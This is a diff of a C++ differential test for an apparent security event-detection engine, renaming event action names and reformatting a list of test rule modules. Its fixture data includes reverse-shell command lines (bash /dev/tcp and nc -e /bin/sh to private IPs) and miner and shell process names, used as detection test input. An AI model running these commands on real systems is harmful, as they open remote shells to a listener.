@@ -14,7 +14,7 @@ std::vector<Event> generated_events(size_t n) {
   std::mt19937 rng(20261120);
   const std::vector<std::string> names = {"bash", "sh", "nc",   "python3", "xmrig",
                                           "sudo", "su", "curl", "socat",   "perl"};
-  const std::vector<std::string> actions = {"exec", "fork", "exit", "connect", "open"};
+  const std::vector<std::string> actions = {"exec", "fork", "end", "connection_attempted", "open"};
   const std::vector<std::string> pieces = {
       "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1",
       "nc -e /bin/sh 10.0.0.1 9001",
@@ -39,8 +39,8 @@ std::vector<Event> generated_events(size_t n) {
     const std::string action = actions[rng() % actions.size()];
     Event e = process_event("gen-" + std::to_string(k), action, names[rng() % names.size()], cmd,
                             1'790'000'000'000'000'000 + static_cast<int64_t>(k) * 700'000'000);
-    if (action == "exit") e.set_int(fields::kProcessExitCode, rng() % 3 == 0 ? 1 : 0);
-    if (action == "connect") {
+    if (action == "end") e.set_int(fields::kProcessExitCode, rng() % 3 == 0 ? 1 : 0);
+    if (action == "connection_attempted") {
       e.set_category(categories::kNetwork);
       e.set_int(fields::kDestinationPort, rng() % 2 ? 3333 : 443);
     }
@@ -73,13 +73,13 @@ TEST_F(DifferentialTest, TiersAgreeOnVerdictsAlertsTrapsAndFuel) {
   ASSERT_GT(sample_count, 2000u);
   for (Event& e : generated_events(3000)) events.push_back(std::move(e));
 
-  std::vector<Variant> variants = {{test_module("busy"), ""},        {test_module("flaky"), ""},
-                                   {test_module("state_flood"), ""}, {test_module("log_flood"), ""},
-                                   {test_module("alert_flood"), ""}, {test_module("negative"), ""},
-                                   {test_module("loop"), ""},        {test_module("recursion"), ""},
-                                   {test_module("host_abuse"), ""},
-                                   {test_module("state_add_flood"), ""},
-                                   {test_module("get_field_flood"), ""}};
+  std::vector<Variant> variants = {
+      {test_module("busy"), ""},           {test_module("flaky"), ""},
+      {test_module("state_flood"), ""},    {test_module("log_flood"), ""},
+      {test_module("alert_flood"), ""},    {test_module("negative"), ""},
+      {test_module("loop"), ""},           {test_module("recursion"), ""},
+      {test_module("host_abuse"), ""},     {test_module("state_add_flood"), ""},
+      {test_module("get_field_flood"), ""}};
   // Quarantine back-off runs on this clock, advanced per event, so both runners leave
   // quarantine on the same event however long each tier takes.
   int64_t clock_ms = 0;
